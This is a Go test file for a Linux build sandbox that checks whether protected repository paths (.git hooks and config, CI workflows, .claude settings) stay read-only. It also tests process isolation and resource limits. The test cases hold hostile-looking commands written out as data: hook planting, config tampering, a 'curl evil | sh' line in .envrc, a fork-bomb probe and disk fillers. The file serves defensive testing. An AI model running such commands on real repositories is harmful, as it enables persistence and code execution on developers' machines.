//go:build linux

package sandbox

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"
)

// protectedTree is the workspace the hostile builds run in: a repository
// with hooks, a workflow, an existing .claude, and no .envrc or .vscode.
var protectedTree = map[string]string{
	".git/config":               "[core]\n\tbare = false\n",
	".git/HEAD":                 "ref: refs/heads/main\n",
	".git/hooks/README":         "hooks\n",
	".github/workflows/ci.yml":  "on: push\n",
	".github/CODEOWNERS":        "* @me\n",
	".claude/settings.json":     "{}\n",
	"narrowd-state/audit.jsonl": "{}\n",
	"src/a.go":                  "package a\n",
	"src/old.txt":               "old\n",
	"vendor/lib/.git/HEAD":      "ref: refs/heads/main\n",
	"vendor/lib/.git/hooks/x":   "x\n",
}

// TestProtectedPathsReadOnly runs hostile builds against every protected
// path: write, create, rename over, delete and recreate, hard links,
// moving a parent aside. Inside, each fails and leaves the tree as it
// was; the control runs the same command outside, where it succeeds, so
// the sandbox is what refused. Ordinary workspace writes still work.
func TestProtectedPathsReadOnly(t *testing.T) {
	r := newRunner(t)
	tests := []struct {
		name string
		cmd  string
		// changed is a file whose content the attack would change or
		// create, relative to the workspace, and the content it would
		// have.
		changed, evil string
	}{
		{"write-git-config", `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, ".git/config", "fsmonitor"},
		{"plant-hook", `printf '#!/bin/sh\necho evil\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, ".git/hooks/pre-commit", "evil"},
		{"rename-over-config", `echo evil > x && mv -f x .git/config`, ".git/config", "evil"},
		{"delete-and-recreate-git", `rm -rf .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`, ".git/hooks/pre-commit", "evil"},
		{"move-git-aside", `mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`, ".git/hooks/pre-commit", "evil"},
		{"hard-link-out", `ln .git/config cfg && echo evil >> cfg`, ".git/config", "evil"},
		{"hard-link-in", `echo evil > h && ln -f h .git/hooks/pre-commit`, ".git/hooks/pre-commit", "evil"},
		{"symlink-in", `echo evil > h && ln -sf ../../h .git/hooks/pre-commit`, ".git/hooks/pre-commit", "evil"},
		{"write-workflow", `echo evil > .github/workflows/ci.yml`, ".github/workflows/ci.yml", "evil"},
		{"new-workflow", `echo evil > .github/workflows/new.yml`, ".github/workflows/new.yml", "evil"},
		{"move-github-aside", `mv .github .gh && mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml`, ".github/workflows/ci.yml", "evil"},
		{"delete-github", `rm -rf .github; mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml`, ".github/workflows/ci.yml", "evil"},
		{"symlink-swap-github", `mv .github .gh && mkdir -p evil/workflows && echo evil > evil/workflows/ci.yml && ln -s evil .github`, ".github/workflows/ci.yml", "evil"},
		{"write-claude-settings", `echo evil > .claude/settings.json`, ".claude/settings.json", "evil"},
		{"delete-and-recreate-claude", `rm -rf .claude; mkdir .claude && echo evil > .claude/settings.json`, ".claude/settings.json", "evil"},
		{"narrowd-own-file", `echo evil >> narrowd-state/audit.jsonl`, "narrowd-state/audit.jsonl", "evil"},
		{"nested-repo-hook", `echo evil > vendor/lib/.git/hooks/pre-commit`, "vendor/lib/.git/hooks/pre-commit", "evil"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := r.dir(t)
			writeTree(t, ws, r.uid, r.gid, protectedTree)
			own := filepath.Join(ws, "narrowd-state")
			code, out := r.confine(t, []string{ws}, "cd "+ws+" && "+tt.cmd, "NARROWD_WRAP_PROTECT="+own)
			if b, _ := os.ReadFile(filepath.Join(ws, tt.changed)); strings.Contains(string(b), tt.evil) {
				t.Fatalf("the build changed %s (exit %d):\n%s", tt.changed, code, out)
			}
			if code == 0 {
				t.Fatalf("exit 0, want the attack to fail:\n%s", out)
			}
			if !strings.Contains(out, "narrowd:") || !strings.Contains(out, ".git") {
				t.Errorf("stderr does not name narrowd and the protected paths:\n%s", out)
			}
			for rel, content := range protectedTree {
				if rel == ".github/CODEOWNERS" || strings.HasPrefix(rel, "src/") {
					continue // not protected
				}
				if b, err := os.ReadFile(filepath.Join(ws, rel)); err != nil || string(b) != content {
					t.Errorf("%s changed: %q, %v", rel, b, err)
				}
			}
			// The control: the same build outside succeeds.
			ctl := r.dir(t)
			writeTree(t, ctl, r.uid, r.gid, protectedTree)
			code, out = r.direct(t, "cd "+ctl+" && "+tt.cmd)
			if b, _ := os.ReadFile(filepath.Join(ctl, tt.changed)); code != 0 || !strings.Contains(string(b), tt.evil) {
				t.Fatalf("control outside the sandbox did not change %s (exit %d), so the test proves nothing:\n%s", tt.changed, code, out)
			}
		})
	}
}

// TestProtectedPathsCreated: a protected path that does not exist when
// the sandbox starts (.envrc, .vscode) and that no protected directory
// holds cannot be covered by a mount. The run may create it, but it is
// moved aside when the run ends, stderr names it, and the exit status is
// not 0.
func TestProtectedPathsCreated(t *testing.T) {
	r := newRunner(t)
	tests := []struct{ name, cmd, path string }{
		{"envrc", `echo 'curl evil | sh' > .envrc`, ".envrc"},
		{"vscode-tasks", `mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json`, ".vscode"},
		{"claude-replaced-by-symlink", `mv .claude .c2; ln -s .c2 .claude`, ".claude"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := r.dir(t)
			writeTree(t, ws, r.uid, r.gid, protectedTree)
			code, out := r.confine(t, []string{ws}, "cd "+ws+" && "+tt.cmd)
			if tt.name == "claude-replaced-by-symlink" {
				// .claude is a mount point: the rename fails.
				if code == 0 || !exists(filepath.Join(ws, ".claude/settings.json")) {
					t.Fatalf("exit %d, .claude moved:\n%s", code, out)
				}
				return
			}
			if code == 0 {
				t.Errorf("exit 0, want non-zero after a protected path was created:\n%s", out)
			}
			if !strings.Contains(out, "narrowd: the sandboxed command created "+filepath.Join(ws, tt.path)) {
				t.Errorf("stderr does not name narrowd and %s:\n%s", tt.path, out)
			}
			if exists(filepath.Join(ws, tt.path)) {
				t.Fatalf("%s is still there after the run", tt.path)
			}
			if !exists(filepath.Join(ws, tt.path+refusedSuffix)) {
				t.Fatalf("%s was not kept aside for the person to look at", tt.path)
			}
		})
	}
}

// TestOrdinaryWorkspaceWrites: outside the protected paths the build
// writes, renames, deletes and makes directories as before.
func TestOrdinaryWorkspaceWrites(t *testing.T) {
	r := newRunner(t)
	ws := r.dir(t)
	writeTree(t, ws, r.uid, r.gid, protectedTree)
	cmd := `cd ` + ws + ` && echo new > src/new.txt && rm src/old.txt && mkdir -p build/out && mv src/a.go src/b.go && ` +
		`echo cov > coverage.out && rm -rf build && cat .git/HEAD && ls .github && echo tmp > "$TMPDIR/t" && cat "$TMPDIR/t"`
	code, out := r.confine(t, []string{ws}, cmd)
	if code != 0 || !strings.Contains(out, "refs/heads/main") || !strings.Contains(out, "tmp") {
		t.Fatalf("exit %d:\n%s", code, out)
	}
	for rel, want := range map[string]string{"src/new.txt": "new\n", "src/b.go": "package a\n", "coverage.out": "cov\n"} {
		if b, err := os.ReadFile(filepath.Join(ws, rel)); err != nil || string(b) != want {
			t.Errorf("%s: %q, %v", rel, b, err)
		}
	}
	if exists(filepath.Join(ws, "src/old.txt")) || exists(filepath.Join(ws, "build")) {
		t.Error("a delete did not land")
	}
	if strings.Contains(out, "narrowd:") {
		t.Errorf("a run that touched no protected path got narrowd's notice:\n%s", out)
	}
}

// TestGitfileTargetProtected: a .git file (worktree, submodule) protects
// the directory it names when that lies in the workspace.
func TestGitfileTargetProtected(t *testing.T) {
	r := newRunner(t)
	ws := r.dir(t)
	writeTree(t, ws, r.uid, r.gid, map[string]string{".git": "gitdir: gitdirs/wt\n", "gitdirs/wt/HEAD": "ref\n"})
	code, out := r.confine(t, []string{ws}, "cd "+ws+" && mkdir -p gitdirs/wt/hooks && echo evil > gitdirs/wt/hooks/pre-commit")
	if code == 0 || exists(filepath.Join(ws, "gitdirs/wt/hooks/pre-commit")) {
		t.Fatalf("exit %d, the hook was planted:\n%s", code, out)
	}
}

// TestPrivateProc: the sandbox's /proc shows its own processes only:
// no host command line is in view.
func TestPrivateProc(t *testing.T) {
	r := newRunner(t)
	ws := r.dir(t)
	mypid := strconv.Itoa(os.Getpid())
	code, out := r.confine(t, []string{ws}, `ls /proc | grep -c '^[0-9]'; cat /proc/`+mypid+`/cmdline; cat /proc/1/cmdline | tr '\0' ' '`)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if n, err := strconv.Atoi(lines[0]); err != nil || n > 5 {
		t.Fatalf("the sandbox sees %q processes, want only its own few:\n%s", lines[0], out)
	}
	if code != 0 || strings.Contains(out, "-test.") || !strings.Contains(out, "cmdline: No such file") {
		t.Fatalf("exit %d: the host's test process (pid %s) is visible:\n%s", code, mypid, out)
	}
	if !strings.Contains(out, "bash") {
		t.Fatalf("pid 1 is not the sandbox's command:\n%s", out)
	}
	// The control: outside, the host's processes are in view.
	if code, out := r.direct(t, `cat /proc/`+mypid+`/cmdline`); code != 0 || !strings.Contains(out, "test") {
		t.Fatalf("control: exit %d: %s", code, out)
	}
}

// TestLimits: a fork bomb stops at the process limit and a disk filler at
// the file-size limit and the tmp's size, and the machine goes on. The
// limits are small here so that the test stays bounded.
func TestLimits(t *testing.T) {
	r := newRunner(t)
	ws := r.dir(t)
	t.Run("fork-bomb", func(t *testing.T) {
		// The probe starts 200 sleepers (bash would retry a refused fork
		// with back-off); those that started are bounded by the limit,
		// and they die with the sandbox's init.
		code, out := r.confine(t, []string{ws}, `NARROWD_PROBE=spawn:200 "$HELPER"; ls /proc | grep -c '^[0-9]'`, "NARROWD_WRAP_NPROC=40")
		var started, procs int
		if _, err := fmt.Sscanf(out, "started %d", &started); err != nil {
			t.Fatalf("exit %d: %v:\n%s", code, err, out)
		}
		lines := strings.Split(strings.TrimSpace(out), "\n")
		procs, _ = strconv.Atoi(lines[len(lines)-1])
		if started >= 40 || procs > 40 || !strings.Contains(out, "resource temporarily unavailable") {
			t.Fatalf("exit %d: %d started, %d processes, want fewer than 40 and a refused fork:\n%s", code, started, procs, out)
		}
		// The control: outside, all 200 start.
		code, out = r.direct(t, `NARROWD_PROBE=spawn:200 "$HELPER"`)
		if !strings.Contains(out, "started 200") {
			t.Fatalf("control: exit %d: %s", code, out)
		}
	})
	t.Run("big-file", func(t *testing.T) {
		code, out := r.confine(t, []string{ws}, `head -c 3000000 /dev/zero > `+ws+`/big; echo rc=$?`, "NARROWD_WRAP_FSIZE=1000000")
		fi, err := os.Stat(filepath.Join(ws, "big"))
		if err != nil || fi.Size() > 1000000 || !strings.Contains(out, "rc=1") && !strings.Contains(out, "rc=153") {
			t.Fatalf("exit %d, file %v %v:\n%s", code, fi, err, out)
		}
	})
	t.Run("tmp-filler", func(t *testing.T) {
		code, out := r.confine(t, []string{ws}, `head -c 5000000 /dev/zero > "$TMPDIR/f"; echo rc=$?; df -k "$TMPDIR" | tail -1`, "NARROWD_WRAP_TMPSIZE=1000000")
		if !strings.Contains(out, "No space left") {
			t.Fatalf("exit %d, want the tmp to fill up at its size:\n%s", code, out)
		}
	})
}

// TestOverlayWorkspace: with Spec.Overlays the run's writes land in the
// upper directory and the real workspace is unchanged; protected paths
// stay read-only in the merged view.
func TestOverlayWorkspace(t *testing.T) {
	r := newRunner(t)
	ws := r.dir(t)
	state := r.dir(t) // same file system as ws (both in the temp dir)
	upper, work := filepath.Join(state, "upper"), filepath.Join(state, "work")
	for _, d := range []string{upper, work} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
		os.Chown(d, r.uid, r.gid)
	}
	writeTree(t, ws, r.uid, r.gid, protectedTree)
	cmd := `cd ` + ws + ` && echo new > src/new.txt && echo changed > src/a.go && rm src/old.txt && cat src/a.go && ` +
		`(echo evil >> .git/config || echo refused)`
	code, out := r.confine(t, []string{ws}, cmd, "NARROWD_WRAP_OVERLAY="+ws+":"+upper+":"+work)
	if code != 0 || !strings.Contains(out, "changed") || !strings.Contains(out, "refused") {
		t.Fatalf("exit %d:\n%s", code, out)
	}
	for rel, content := range protectedTree {
		if b, err := os.ReadFile(filepath.Join(ws, rel)); err != nil || string(b) != content {
			t.Errorf("the real %s changed: %q, %v", rel, b, err)
		}
	}
	if exists(filepath.Join(ws, "src/new.txt")) {
		t.Error("a new file reached the real workspace")
	}
	if b, err := os.ReadFile(filepath.Join(upper, "src/new.txt")); err != nil || string(b) != "new\n" {
		t.Errorf("upper/src/new.txt: %q, %v", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(upper, "src/a.go")); err != nil || string(b) != "changed\n" {
		t.Errorf("upper/src/a.go: %q, %v", b, err)
	}
	if fi, err := os.Lstat(filepath.Join(upper, "src/old.txt")); err != nil || fi.Mode()&os.ModeCharDevice == 0 {
		t.Errorf("upper/src/old.txt is not a whiteout: %v, %v", fi, err)
	}
}

// TestGoTestWithHomeHidden: go runs with the home hidden: it finds its
// toolchain and module, writes its build cache through the discarded
// cache overlay (~/.cache/go-build), and the real cache is unchanged.
// With NARROWD_SANDBOX_GO_TEST=1 it runs a real go test, which with the
// test's empty cache compiles the standard library (minutes on a busy
// machine).
func TestGoTestWithHomeHidden(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("SKIPPING: no go command")
	}
	r := newRunner(t)
	home, ws := r.dir(t), r.dir(t)
	writeTree(t, home, r.uid, r.gid, map[string]string{".cache/go-build/README": "cache\n", ".bashrc": "SECRET\n"})
	writeTree(t, ws, r.uid, r.gid, map[string]string{
		"go.mod":    "module example.com/m\n\ngo 1.21\n",
		"a.go":      "package m\n\nfunc Add(a, b int) int { return a + b }\n",
		"a_test.go": "package m\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"no\")\n\t}\n}\n",
	})
	run := goBin + " list ./... && echo entry > $HOME/.cache/go-build/new && cat $HOME/.cache/go-build/new"
	want := "example.com/m"
	if os.Getenv("NARROWD_SANDBOX_GO_TEST") == "1" {
		run, want = goBin+" test -count=1 ./...", "ok  \texample.com/m"
	}
	code, out := r.confine(t, []string{ws}, "cd "+ws+" && "+run+" && ls -a $HOME",
		"HOME="+home, "GOTOOLCHAIN=local", "GOFLAGS=", "GOCACHE=", "GOPATH=", "GOMODCACHE=", "GOENV=")
	if code != 0 || !strings.Contains(out, want) {
		t.Fatalf("go test in the sandbox: exit %d:\n%s", code, out)
	}
	if strings.Contains(out, ".bashrc") {
		t.Errorf("the hidden home lists .bashrc:\n%s", out)
	}
	entries, _ := os.ReadDir(filepath.Join(home, ".cache/go-build"))
	if len(entries) != 1 {
		t.Errorf("the real build cache changed: %d entries", len(entries))
	}
}

// TestDiskFillerStopped: a build that fills the workspace's file system
// with many files, each under the file-size limit, is stopped when the
// free space falls below the floor. The workspace is a small tmpfs (so
// the test needs root to mount it) and the floor is half of it.
func TestDiskFillerStopped(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("SKIPPING: mounting the small file system needs root")
	}
	r := newRunner(t)
	ws := r.dir(t)
	if err := unix.Mount("tmpfs", ws, "tmpfs", 0, "size=64m,mode=0755"); err != nil {
		t.Skipf("SKIPPING: cannot mount a tmpfs: %v", err)
	}
	t.Cleanup(func() { unix.Unmount(ws, unix.MNT_DETACH) })
	os.Chown(ws, r.uid, r.gid)
	code, out := r.confine(t, []string{ws}, `for i in $(seq 200); do head -c 1000000 /dev/zero > `+ws+`/f$i; sleep 0.05; done; echo finished`,
		"NARROWD_WRAP_MINFREE="+strconv.Itoa(32<<20))
	entries, _ := os.ReadDir(ws)
	if code != 137 || strings.Contains(out, "finished") || !strings.Contains(out, "narrowd: stopped the sandboxed command") || len(entries) > 60 {
		t.Fatalf("exit %d, %d files, want the filler stopped at the floor:\n%s", code, len(entries), out)
	}
}

// TestProtectedInWorkspaceInHome: a workspace inside the hidden home is
// shown with its read-only protected paths.
func TestProtectedInWorkspaceInHome(t *testing.T) {
	r := newRunner(t)
	home := r.dir(t)
	ws := filepath.Join(home, "src", "proj")
	writeTree(t, home, r.uid, r.gid, map[string]string{"src/proj/.git/config": "[core]\n", "src/proj/a.go": "package a\n"})
	code, out := r.confine(t, []string{ws}, `cd `+ws+` && echo ok > b.go && echo evil >> .git/config`, "HOME="+home)
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); code == 0 || string(b) != "[core]\n" || !exists(filepath.Join(ws, "b.go")) {
		t.Fatalf("exit %d, .git/config %q:\n%s", code, b, out)
	}
}

// TestStaticBinaryOneStage: narrowd built without cgo, as the README
// builds it, drops its capabilities on every thread in the net stage and
// runs the program without a second start of itself; the program holds
// no capability, has no_new_privs and the seccomp filter, and the
// protected paths are read-only. (The test binary itself uses cgo, so the
// other tests run the two-stage path.)
func TestStaticBinaryOneStage(t *testing.T) {
	if testing.Short() {
		t.Skip("builds narrowd-exec")
	}
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("SKIPPING: no go command")
	}
	r := newRunner(t)
	dir := mkdirAll(t, 0o755)
	build := exec.Command(goBin, "build", "-o", dir+"/", "github.com/narrowd/narrowd/cmd/narrowd-exec")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	ws := r.dir(t)
	writeTree(t, ws, r.uid, r.gid, map[string]string{".git/config": "[core]\n"})
	c := exec.Command(filepath.Join(dir, "narrowd-exec"), "--confine", "--write", ws, "--", "sh", "-c",
		`echo evil >> `+ws+`/.git/config; grep -E '^(CapEff|CapPrm|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status; echo stage=$(tr '\0' ' ' < /proc/1/cmdline)`)
	c.SysProcAttr = &syscall.SysProcAttr{Credential: r.cred}
	out, _ := c.CombinedOutput()
	for _, want := range []string{"CapEff:\t0000000000000000", "CapPrm:\t0000000000000000", "CapAmb:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2", "Read-only file system"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(b) != "[core]\n" {
		t.Errorf(".git/config changed: %q", b)
	}
}
